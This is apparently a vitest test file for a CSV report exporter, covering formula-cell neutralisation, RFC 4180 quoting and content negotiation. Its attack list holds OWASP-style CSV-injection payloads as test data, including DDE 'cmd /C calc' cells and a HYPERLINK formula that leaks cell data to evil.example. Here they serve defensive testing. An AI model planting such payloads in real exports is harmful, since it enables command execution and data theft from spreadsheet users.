// CSV of reports: RFC 4180 quoting, formula cells neutralised (OWASP CSV injection), content negotiation;
// the output read back by a real CSV parser (csv-parse) as a spreadsheet reads it.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralise, prefersCsv, toCsv } from '../../src/reports/csv.js';

describe('neutralise', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('%j starts a formula: prefixed with a quote', (cell) => {
    expect(neutralise(cell)).toBe(`'${cell}`);
  });
  it.each(['ENT-1001', '50000.00', "'already", ' =not first', ''])('%j is left as it is', (cell) => {
    expect(neutralise(cell)).toBe(cell);
  });
});

describe('toCsv', () => {
  it('a header row, CRLF line ends, quotes where RFC 4180 needs them, null as an empty cell', () => {
    const csv = toCsv(['a', 'b', 'c'], [
      { a: 'plain', b: 'with, comma', c: null },
      { a: 'with "quote"', b: 'two\r\nlines', c: 3 },
      { a: '=cmd|"/C calc"!A0', b: '-2', c: 0 },
    ]);
    expect(csv).toBe('a,b,c\r\nplain,"with, comma",\r\n"with ""quote""","two\r\nlines",3\r\n"\'=cmd|""/C calc""!A0",\'-2,0\r\n');
  });

  it('no rows: the header alone', () => {
    expect(toCsv(['date', 'count'], [])).toBe('date,count\r\n');
  });
});

/**
 * Reads CSV as a spreadsheet does: a CR, an LF or a CRLF outside quotes ends a row (issue 20: a lone LF was
 * written unquoted, so "Acme Ltd\n=2+5" started a row with =2+5).
 */
const readAsSpreadsheet = (csv: string): string[][] => parse(csv, { record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true });

/** OWASP's CSV-injection cells and the issue's, each in a report row between two plain cells. */
const ATTACKS = [
  'Acme Ltd\n=2+5',
  'Acme Ltd\r=2+5',
  'Acme Ltd\r\n=2+5',
  'Acme Ltd\n\n@SUM(1+1)',
  'line one\n+1+1\nline three',
  '=2+5',
  '+2+5',
  '-2+5',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a,=1+1',
  '"=1+1"',
  '=1+1"\r\n=2+2',
];
const FORMULA_START = /^[=+\-@\t\r]/;

describe('the attack list, read back by a CSV parser', () => {
  it.each(ATTACKS)('%j stays one cell of one row, and no cell starts a formula', (attack) => {
    const csv = toCsv(['before', 'cell', 'after'], [{ before: 'ENT-1', cell: attack, after: 'x' }, { before: 'ENT-2', cell: 'plain', after: 'y' }]);
    const rows = readAsSpreadsheet(csv);
    expect(rows).toEqual([
      ['before', 'cell', 'after'],
      ['ENT-1', FORMULA_START.test(attack) ? `'${attack}` : attack, 'x'],
      ['ENT-2', 'plain', 'y'],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it('RFC 4180: a field holding CR, LF, a quote or the delimiter is quoted; others are not', () => {
    const csv = toCsv(['c'], ['cr\rx', 'lf\nx', 'q"x', 'd,x', 'plain'].map((c) => ({ c })));
    expect(csv).toBe('c\r\n"cr\rx"\r\n"lf\nx"\r\n"q""x"\r\n"d,x"\r\nplain\r\n');
    // Read strictly (quotes where RFC 4180 puts them, CRLF between records), every value comes back.
    expect(parse(csv, { record_delimiter: '\r\n' })).toEqual([['c'], ['cr\rx'], ['lf\nx'], ['q"x'], ['d,x'], ['plain']]);
  });
});

describe('prefersCsv', () => {
  it.each([
    [undefined, false],
    ['', false],
    ['text/csv', true],
    ['TEXT/CSV; charset=utf-8', true],
    ['text/csv, application/json', false],
    ['application/json;q=0.9, text/csv', true],
    ['text/csv;q=0', false],
    ['*/*', false],
    ['text/*, application/*;q=0.5', true],
  ])('%j → %s', (accept, csv) => {
    expect(prefersCsv(accept)).toBe(csv);
  });
});
